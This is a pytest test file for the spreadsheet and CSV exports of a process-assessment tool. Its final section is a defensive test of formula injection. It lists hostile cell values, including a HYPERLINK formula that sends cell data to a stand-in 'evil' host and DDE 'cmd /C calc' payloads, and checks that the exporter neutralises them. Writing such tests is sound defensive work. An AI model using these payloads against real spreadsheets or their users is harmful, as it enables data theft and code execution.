"""The results files people open in Excel: written, then read back with openpyxl and pandas.

Issue 10 item 5: results.xlsx/.csv had English headers, 16-digit decimals, no
number formats, no filters and rows not in rank order.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from lxml import etree
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from bpm.errors import RenderError
from bpm.reader import read_bpmn
from reports.export_columns import COLUMN_SPECS, FORMATS, Lang, header
from reports.export_table import (
    SHEET_NAMES,
    export_frame,
    in_rank_order,
    table_bytes,
    workbook_sheets,
    write_results,
)
from reports.export_xlsx import stable_xlsx_bytes, write_table
from reports.style import DISPOSITION_STYLES
from scoring.assess import assess
from scoring.decisions import Decision, load_decisions
from scoring.profile import load_profile
from scoring.result import Assessment
from scoring.survey import load_survey
from scoring.table import COLUMNS, steps_frame

TESTS = Path(__file__).resolve().parents[1]
COUNTER = TESTS / "data" / "scoring" / "counter.bpmn"
CANDIDATES_PAY = TESTS / "data" / "scoring" / "candidates-pay.toml"
WHEN = datetime(2026, 4, 1, 9, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def sample(flows_dir: Path) -> Assessment:
    """The sample library with a profile under which some candidates pay (so there are ranks to order by)."""
    paths = sorted(flows_dir.glob("*.bpmn"))
    return assess([read_bpmn(p) for p in paths], survey=load_survey(flows_dir / "survey.xlsx"),
                  profile=load_profile(CANDIDATES_PAY))


@pytest.fixture(scope="module")
def frame(sample: Assessment) -> pd.DataFrame:
    return steps_frame(sample)


@pytest.fixture(scope="module")
def workbook_ja(frame: pd.DataFrame, sample: Assessment) -> openpyxl.Workbook:
    data = table_bytes(frame, "xlsx", assessment=sample, created=WHEN)
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.fixture(scope="module")
def workbook_en(frame: pd.DataFrame, sample: Assessment) -> openpyxl.Workbook:
    data = table_bytes(frame, "xlsx", lang="en", assessment=sample, created=WHEN)
    return openpyxl.load_workbook(io.BytesIO(data))


def _sheet(book: openpyxl.Workbook, index: int) -> Worksheet:
    sheet = book.worksheets[index]
    assert isinstance(sheet, Worksheet)
    return sheet


def _rows(sheet: Worksheet) -> list[dict[str, object]]:
    head = [c.value for c in sheet[1]]
    return [dict(zip(head, values, strict=True)) for values in sheet.iter_rows(min_row=2, values_only=True)]


# --------------------------------------------------------------------------- headers and sheets


def test_headers_in_japanese_and_english(workbook_ja: openpyxl.Workbook, workbook_en: openpyxl.Workbook) -> None:
    assert workbook_ja.sheetnames == ["手順一覧", "前提条件", "凡例"]
    assert workbook_en.sheetnames == ["Steps", "Assumptions", "Legend"]
    ja = [c.value for c in _sheet(workbook_ja, 0)[1]]
    en = [c.value for c in _sheet(workbook_en, 0)[1]]
    assert ja == [header(k, "ja") for k in COLUMNS] and en == [header(k, "en") for k in COLUMNS]
    assert ja[:6] == ["順位", "業務フロー", "プロセスID", "ファイル", "手順ID", "手順"]
    assert {"年間時間", "人工", "処理方針", "財政効果（正味現在価値）", "年間人件費"} <= set(ja)
    assert {"Hours per year", "FTE", "Recommendation", "Cash effect (NPV)"} <= set(en)
    assert ja[-3:] == ["判断", "担当", "コメント"] and en[-3:] == ["Decision", "Owner", "Comment"]
    assert not any(re.fullmatch(r"[a-z_]+", str(h)) for h in ja), "no snake_case key left in the Japanese header"
    assert len(set(ja)) == len(ja) and len(set(en)) == len(en)


def test_coded_words_are_shown_in_the_reader_language(workbook_ja: openpyxl.Workbook,
                                                      workbook_en: openpyxl.Workbook) -> None:
    ja, en = _rows(_sheet(workbook_ja, 0)), _rows(_sheet(workbook_en, 0))
    assert {r["処理方針"] for r in ja} <= {s.ja for s in DISPOSITION_STYLES.values()}
    assert {r["Recommendation"] for r in en} <= {s.en for s in DISPOSITION_STYLES.values()}
    assert {r["特徴: 公権力の行使"] for r in ja} == {"有", "無"}
    assert {r["Feature: Public authority"] for r in en} == {"yes", "no"}
    assert any("業務量調査票" in str(r["データの出所"]) for r in ja)
    assert any("職員 " in str(r["職種の内訳"]) and "%" in str(r["職種の内訳"]) for r in ja)
    assert "手作業タスク" in {r["種別"] for r in ja}


# --------------------------------------------------------------------------- numbers


def test_number_formats_and_rounding_per_unit(workbook_ja: openpyxl.Workbook) -> None:
    sheet = _sheet(workbook_ja, 0)
    checked = 0
    for index, key in enumerate(COLUMNS, start=1):
        fmt = COLUMN_SPECS[key].format
        for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
            if not isinstance(cell.value, int | float) or isinstance(cell.value, bool):
                continue
            checked += 1
            assert cell.number_format == fmt.number_format, (key, cell.coordinate, cell.number_format)
            assert fmt.digits is not None
            decimals = -Decimal(repr(float(cell.value))).normalize().as_tuple().exponent
            assert decimals <= fmt.digits, (key, cell.value)  # no 16-digit decimals
    assert checked > 1000
    by_key = {k: COLUMN_SPECS[k].format.number_format for k in COLUMNS}
    assert by_key["hours_per_year"] == "#,##0.0" and by_key["annual_count"] == "#,##0"
    assert by_key["yen_per_year"] == by_key["cash_npv_yen"] == '#,##0;"▲"#,##0;0'
    assert by_key["exception"] == "0.0%" and by_key["fte"] == "#,##0.00"


def test_negative_yen_are_numbers_shown_with_a_triangle(workbook_ja: openpyxl.Workbook) -> None:
    npv = [r["財政効果（正味現在価値）"] for r in _rows(_sheet(workbook_ja, 0))]
    negative = [v for v in npv if isinstance(v, int | float) and v < 0]
    assert negative, "the sample has candidates that do not pay"
    assert all(isinstance(v, int) for v in npv if v is not None)  # whole yen
    positive, minus, _zero = FORMATS["yen"].number_format.split(";")
    assert minus == '"▲"#,##0' and "-" not in positive


# --------------------------------------------------------------------------- layout


def test_header_frozen_filtered_and_columns_fit(workbook_ja: openpyxl.Workbook, frame: pd.DataFrame) -> None:
    sheet = _sheet(workbook_ja, 0)
    assert sheet.freeze_panes == "A2"
    last = get_column_letter(len(COLUMNS))
    assert sheet.auto_filter.ref == f"A1:{last}{len(frame) + 1}"
    assert sheet.max_row == len(frame) + 1
    assert all(cell.font.bold for cell in sheet[1])
    widths = {key: sheet.column_dimensions[get_column_letter(i)].width for i, key in enumerate(COLUMNS, start=1)}
    for key, width in widths.items():
        assert 6 <= width <= COLUMN_SPECS[key].max_width, (key, width)
    assert widths["flow"] >= 2 * len("住民票の写し等の交付"), "a full-width character takes two columns"
    assert widths["reasons_ja"] == COLUMN_SPECS["reasons_ja"].max_width, "long text is capped, not a mile wide"
    assert widths["rank"] < widths["name"]
    for index in (1, 2):
        other = _sheet(workbook_ja, index)
        assert other.freeze_panes == "A2" and other.auto_filter.ref is not None


def test_rows_are_in_rank_order(workbook_ja: openpyxl.Workbook, frame: pd.DataFrame) -> None:
    rows = _rows(_sheet(workbook_ja, 0))
    ranks = [r["順位"] for r in rows]
    ranked = [r for r in ranks if r is not None]
    assert len(ranked) >= 10 and ranks[: len(ranked)] == sorted(ranked) == list(range(1, len(ranked) + 1))
    rest = rows[len(ranked):]
    capacity = [r["能力順位"] for r in rest if r["能力順位"] is not None]
    assert [r["能力順位"] for r in rest[: len(capacity)]] == sorted(capacity), "then candidates by capacity rank"
    tail = rest[len(capacity):]
    order = [s.ja for s in (DISPOSITION_STYLES[d] for d in DISPOSITION_STYLES)]
    groups = [r["処理方針"] for r in tail]
    assert groups == sorted(groups, key=lambda g: ["要確認（職員が担当）", "職員が担当", "自動化済み"].index(str(g))
                            if g in ("要確認（職員が担当）", "職員が担当", "自動化済み") else len(order))
    for group in set(groups):
        hours = [float(str(r["年間時間"])) for r in tail if r["処理方針"] == group]
        assert hours == sorted(hours, reverse=True), group
    assert len(rows) == len(frame) and {r["手順ID"] for r in rows} == set(frame["step_id"])


def test_rank_order_ties_keep_flow_order() -> None:
    frame = pd.DataFrame({"rank": pd.array([None, 2, None, 1, None], dtype="Int64"),
                          "capacity_rank": pd.array([None, 3, 1, 2, None], dtype="Int64"),
                          "hours_per_year": [5.0, 1.0, 1.0, 1.0, 5.0],
                          "disposition": ["retain", "rpa", "retain", "outsource", "retain"],
                          "step_id": ["a", "b", "c", "d", "e"]})
    assert in_rank_order(frame)["step_id"].tolist() == ["d", "b", "c", "a", "e"]


# --------------------------------------------------------------------------- the two extra sheets


def test_assumptions_sheet_lists_every_parameter_with_unit_and_source(workbook_ja: openpyxl.Workbook,
                                                                       sample: Assessment) -> None:
    sheet = _sheet(workbook_ja, 1)
    head = [c.value for c in sheet[1]]
    assert head == ["区分", "パラメータ", "名称", "意味", "値", "下限", "上限", "単位", "推計/出典", "出典・根拠"]
    rows = {r["パラメータ"]: r for r in _rows(sheet)}
    assert set(sample.profile_sources) <= set(rows)
    assert rows["評価プロファイル"]["値"] == sample.profile_name
    profile = load_profile(CANDIDATES_PAY)
    for key, estimate in profile.estimates.items():
        row = rows[key]
        assert row["値"] == pytest.approx(estimate.base), key
        if estimate.is_range:
            assert (row["下限"], row["上限"]) == (pytest.approx(estimate.low), pytest.approx(estimate.high)), key
        assert row["推計/出典"] in {"推計", "推計（要設定）", "出典", "出典から算出", "設定"}, key
        assert (row["推計/出典"] in ("推計", "推計（要設定）")) == estimate.estimated, key
    assert rows["volume.default_annual_cases"]["推計/出典"] == "推計（要設定）"
    assert rows["rpa.licence_per_robot_year"]["単位"] == "円/年"
    assert rows["queue.target_wait_minutes"]["単位"] == "分"
    assert rows["cashflow.discount_rate"]["単位"] == "割合（年率）"
    assert rows["working.hours_per_fte"]["単位"] == "時間/人工"
    for key in sample.profile_sources:  # every parameter in words, not only its key (issue 10 item 4)
        assert rows[key]["名称"] and rows[key]["意味"] and rows[key]["単位"], key
    assert rows["queue.counter_idle_freed_share"]["名称"] == "窓口の空き時間のうち減らせる割合"
    assert rows["queue.counter_idle_freed_share"]["区分"] == "窓口の待ち行列"  # the table's heading, not its key
    money = [r for r in _rows(sheet) if r["区分"] == "財政効果の前提"]
    assert sample.money is not None and len(money) == len(sample.money.assumptions) > 0


def test_legend_explains_every_column_and_recommendation(workbook_ja: openpyxl.Workbook,
                                                         workbook_en: openpyxl.Workbook) -> None:
    for book, lang in ((workbook_ja, "ja"), (workbook_en, "en")):
        rows = _rows(_sheet(book, 2))
        head = [c.value for c in _sheet(book, 2)[1]]
        item, meaning = head[1], head[3]
        explained = {r[item]: r[meaning] for r in rows}
        for key in COLUMNS:
            assert explained.get(header(key, lang)), (lang, key)
        for style in DISPOSITION_STYLES.values():
            assert explained.get(style.ja if lang == "ja" else style.en), (lang, style)
        assert any("順位" in str(r[meaning]) or "rank" in str(r[meaning]) for r in rows[:1])  # the row order
        classes = {"推計", "推計（要設定）", "出典", "出典から算出", "設定"} if lang == "ja" else {
            "estimate", "estimate (to be set)", "sourced", "derived from sources", "setting"}
        assert classes <= set(explained), lang  # what the 推計/出典 column of the assumptions means
    assert SHEET_NAMES["ja"][2] == "凡例"


# --------------------------------------------------------------------------- CSV and JSON


def test_csv_has_the_same_columns_rows_and_rounding(frame: pd.DataFrame, workbook_ja: openpyxl.Workbook,
                                                    tmp_path: Path) -> None:
    path = write_results(frame, tmp_path / "results.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(path, encoding="utf-8-sig")
    sheet = pd.read_excel(io.BytesIO(table_bytes(frame, "xlsx", created=WHEN)), sheet_name=0)
    assert list(back.columns) == list(sheet.columns) == [header(k, "ja") for k in COLUMNS]
    assert back["手順ID"].tolist() == sheet["手順ID"].tolist()
    for column in ("年間時間", "人工", "年間人件費", "財政効果（正味現在価値）", "1件あたり回数", "確度"):
        pd.testing.assert_series_equal(back[column], sheet[column], check_dtype=False)
    assert back["年間時間"].map(lambda v: pd.isna(v) or round(v, 1) == v).all()
    en = pd.read_csv(io.BytesIO(table_bytes(frame, "csv", lang="en")), encoding="utf-8-sig")
    assert list(en.columns) == [header(k, "en") for k in COLUMNS]


def test_json_keeps_script_keys_in_the_same_row_order(frame: pd.DataFrame, tmp_path: Path) -> None:
    records = json.loads(write_results(frame, tmp_path / "results.json").read_text(encoding="utf-8"))
    assert list(records[0]) == list(COLUMNS)
    back = pd.read_csv(io.BytesIO(table_bytes(frame, "csv")), encoding="utf-8-sig")
    assert [r["step_id"] for r in records] == back["手順ID"].tolist()
    assert records[0]["rank"] == 1


# --------------------------------------------------------------------------- determinism


def test_the_same_table_gives_the_same_bytes(frame: pd.DataFrame, sample: Assessment,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1775000000")
    first = table_bytes(frame, "xlsx", assessment=sample)
    assert table_bytes(frame, "xlsx", assessment=sample) == first
    book = openpyxl.load_workbook(io.BytesIO(first))
    assert book.properties.created == datetime(2026, 3, 31, 23, 33, 20)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "yesterday")
    with pytest.raises(RenderError, match="SOURCE_DATE_EPOCH"):
        table_bytes(frame, "xlsx")


# --------------------------------------------------------------------------- review columns and decisions


def test_english_sheet_reads_back_as_decisions(tmp_path: Path) -> None:
    assessment = assess([read_bpmn(COUNTER)], profile=load_profile(None))
    path = write_results(steps_frame(assessment), tmp_path / "results.xlsx", lang="en", assessment=assessment)
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    head = [c.value for c in sheet[1]]
    assert head[-3:] == ["Decision", "Owner", "Comment"]
    sheet.cell(3, head.index("Decision") + 1, "採用")
    sheet.cell(3, head.index("Owner") + 1, "市民課 山田")
    step = sheet.cell(3, head.index("Step ID") + 1).value
    book.save(path)
    (decision,) = load_decisions(path)
    assert (decision.step_id, decision.decision, decision.owner) == (step, Decision.ACCEPT, "市民課 山田")


# --------------------------------------------------------------------------- errors


def test_unknown_suffix_is_a_clear_error(frame: pd.DataFrame, tmp_path: Path) -> None:
    with pytest.raises(RenderError, match=r"unknown results format '\.txt'") as caught:
        write_results(frame, tmp_path / "results.txt")
    assert caught.value.hint is not None and "results.csv" in caught.value.hint
    assert not list(tmp_path.iterdir()), "nothing is written"


def test_an_unwritable_place_is_a_clear_error(frame: pd.DataFrame, tmp_path: Path) -> None:
    """`bpm score --out` into a folder that cannot be made ended in an internal error (exit 3)."""
    (tmp_path / "a-file").write_text("not a folder")
    for target in (tmp_path / "a-file" / "results.csv", Path("/proc/bpm-test/results.xlsx")):
        with pytest.raises(RenderError, match=f"cannot write results to {re.escape(str(target))}: "):
            write_results(frame, target)


# --------------------------------------------------------------------------- formula safety

HOSTILE_CELLS = (
    '=HYPERLINK("http://evil/?x="&A1,"y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝HYPERLINK(\"http://evil/\")",  # full-width forms, as a Japanese IME types them
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\ufeff=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
)
FORMULA_STARTS = {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"}


def _looks_like_formula(cell: str) -> bool:
    """An independent check: the raw first character, or the first after blanks and invisible characters."""
    visible = cell.lstrip(" \u3000\ufeff\u200b\t\r\n")
    return bool(cell) and (cell[0] in FORMULA_STARTS or (bool(visible) and visible[0] in FORMULA_STARTS))


@pytest.fixture(scope="module")
def hostile_frame() -> pd.DataFrame:
    """The counter table with user text replaced by formula attempts (names, lanes, flow, reasons, ids)."""
    hostile = steps_frame(assess([read_bpmn(COUNTER)], profile=load_profile()))
    for row in range(len(hostile)):
        text = HOSTILE_CELLS[row % len(HOSTILE_CELLS)]
        for column in ("name", "lane", "flow", "reasons_ja", "step_id", "section"):
            hostile.loc[row, column] = HOSTILE_CELLS[(row + len(column)) % len(HOSTILE_CELLS)]
        hostile.loc[row, "reasons_en"] = text
    extra = hostile.iloc[[0] * len(HOSTILE_CELLS)].reset_index(drop=True)
    extra["name"] = list(HOSTILE_CELLS)
    extra["hours_per_year"] = 0.0  # last in the order, in this order
    hostile = pd.concat([hostile, extra], ignore_index=True)
    hostile.loc[0, "net_5y_yen"] = -1234.5
    return hostile


def test_csv_cells_never_start_a_formula(hostile_frame: pd.DataFrame, tmp_path: Path) -> None:
    """A step named =HYPERLINK(…) was written unescaped into results.csv, which opens straight in Excel."""
    data = write_results(hostile_frame, tmp_path / "results.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    head, body = rows[0], rows[1:]
    assert len(body) == len(hostile_frame)
    for row in body:
        for value in row:
            number = value.replace(".", "", 1).lstrip("-")
            if value.startswith("-") and number.isdigit():
                continue  # a negative number, written bare
            assert not _looks_like_formula(value), value
    names = {row[head.index("手順")] for row in body}
    assert {f"'{text}" for text in HOSTILE_CELLS} <= names  # the text is kept, behind Excel's text marker
    net = head.index("財政効果（期間合計）")
    assert "-1234" in {row[net] for row in body} or "-1235" in {row[net] for row in body}  # numbers stay numbers


def test_xlsx_text_cells_are_strings_never_formulas(hostile_frame: pd.DataFrame, tmp_path: Path) -> None:
    """The same step became a live formula in results.xlsx."""
    book = openpyxl.load_workbook(write_results(hostile_frame, tmp_path / "results.xlsx"))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and _looks_like_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    sheet = _sheet(book, 0)
    head = [c.value for c in sheet[1]]
    names = {sheet.cell(row=r, column=head.index("手順") + 1).value for r in range(2, sheet.max_row + 1)}
    assert set(HOSTILE_CELLS) <= names  # the exact text, no marker
    net = [c.value for (c,) in sheet.iter_rows(min_row=2, min_col=head.index("財政効果（期間合計）") + 1,
                                               max_col=head.index("財政効果（期間合計）") + 1)]
    assert -1234 in net or -1235 in net


# --------------------------------------------------------------------------- XlsxWriter against openpyxl (issue 13)


def _openpyxl_workbook(frame: pd.DataFrame, lang: Lang, assessment: Assessment | None) -> bytes:
    """The same sheets written the way the results workbook was written before, with openpyxl's write_table."""
    book = openpyxl.Workbook(write_only=True)
    table = export_frame(frame, lang)
    for title, columns, rows in workbook_sheets(table, [str(k) for k in frame.columns], lang, assessment):
        write_table(book, title, columns, rows, sample=rows)
    return stable_xlsx_bytes(book, WHEN)


def _described(data: bytes) -> list[object]:
    """Everything a reader of the workbook gets, read back with openpyxl, sheet by sheet and cell by cell."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    described: list[object] = [book.properties.created, book.properties.modified]
    for sheet in book.worksheets:
        assert isinstance(sheet, Worksheet)
        described.append((sheet.title, sheet.freeze_panes, sheet.auto_filter.ref, sheet.print_title_rows,
                           sheet.page_setup.orientation, sheet.max_row, sheet.max_column))
        described.append({key: (d.min, d.max, d.width) for key, d in sheet.column_dimensions.items()})
        for row in sheet.iter_rows():
            for cell in row:
                header = cell.row == 1
                described.append((cell.coordinate, cell.value, type(cell.value).__name__,
                                  cell.data_type if cell.value is not None else "", cell.number_format,
                                  cell.quotePrefix, cell.font.b,
                                  str(cell.fill.fgColor.rgb)[-6:] if header else "",
                                  (cell.alignment.wrap_text, cell.alignment.vertical) if header else ""))
    return described


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_xlsxwriter_workbook_reads_back_as_the_openpyxl_one(frame: pd.DataFrame, sample: Assessment,
                                                           lang: Lang) -> None:
    """Values, types, number formats, quote flags, header look, widths, panes, filter, print titles: all equal."""
    ours = table_bytes(frame, "xlsx", lang=lang, assessment=sample, created=WHEN)
    assert _described(ours) == _described(_openpyxl_workbook(frame, lang, sample))


def test_xlsxwriter_workbook_of_hostile_text_reads_back_as_the_openpyxl_one(hostile_frame: pd.DataFrame) -> None:
    """Formula attempts, control characters, Excel's own _x0041_ escapes and empty text, written by both writers."""
    odd = hostile_frame.copy()
    odd.loc[0, "name"] = "a\x01b\x1fc\x0bd"  # characters XML cannot hold
    odd.loc[1, "name"] = "_x0041_ and _x005F_x0041_"  # what Excel would read as an escaped "A"
    odd.loc[2, "name"] = ""
    odd.loc[3, "name"] = "  leading and trailing  "
    odd.loc[4, "name"] = "line\nbreak\r\nand\ttab"
    odd.loc[5, "lane"] = "x" * 40_000  # longer than a cell holds is cut by both at 32,767
    ours = table_bytes(odd, "xlsx", assessment=None, created=WHEN)
    assert _described(ours) == _described(_openpyxl_workbook(odd, "ja", None))
    rows = _rows(_sheet(openpyxl.load_workbook(io.BytesIO(ours)), 0))
    names = {row["手順"] for row in rows}
    assert {"a\ufffdb\ufffdc\ufffdd", "_x0041_ and _x005F_x0041_", "line\nbreak\r\nand\ttab"} <= names


def test_xlsxwriter_cells_are_never_formulas_in_the_raw_xml(hostile_frame: pd.DataFrame) -> None:
    """Read the sheet XML itself: no <f> element anywhere, every hostile text an inline string with quotePrefix."""
    data = table_bytes(hostile_frame, "xlsx", assessment=None, created=WHEN)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        styles = etree.fromstring(archive.read("xl/styles.xml"))
        xml = {name: etree.fromstring(archive.read(name)) for name in sheets}
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    quoted = {index for index, xf in enumerate(styles.iter(f"{main}cellXfs").__next__())
              if xf.get("quotePrefix") == "1"}
    for name, root in xml.items():
        assert not list(root.iter(f"{main}f")), name
        for cell in root.iter(f"{main}c"):
            text = "".join(cell.itertext())
            if cell.get("t") == "inlineStr" and _looks_like_formula(text):
                assert int(cell.get("s", "0")) in quoted, (name, cell.get("r"), text)
            if cell.get("t") not in ("inlineStr", "b", None, "n"):
                raise AssertionError((name, cell.get("r"), cell.get("t")))
